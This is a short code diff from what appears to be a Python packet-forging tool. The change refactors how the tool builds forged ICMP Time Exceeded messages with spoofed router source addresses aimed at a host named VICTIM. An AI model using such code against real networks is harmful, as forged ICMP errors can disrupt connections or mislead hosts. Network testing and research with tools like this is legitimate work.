@@ -33,9 +33,9 @@ def forged_quotation(random_bits):
 
 
 def forged_frame(macs, random_bits):
-    quotation = forged_quotation(random_bits)[:28]
+    error = packets.icmp(packets.TIME_EXCEEDED, 0, forged_quotation(random_bits)[:28])
     responder = packets.address(packets.number(ROUTERS) + random_bits.randrange(65536))
-    return macs + b"\x08\x00" + packets.icmp_error(11, 0, quotation, source=responder, destination=VICTIM)
+    return macs + packets.ETHERTYPE_IPV4 + packets.ipv4(error, responder, VICTIM, socket.IPPROTO_ICMP)
 
 
 def main(interface, destination_mac, count):
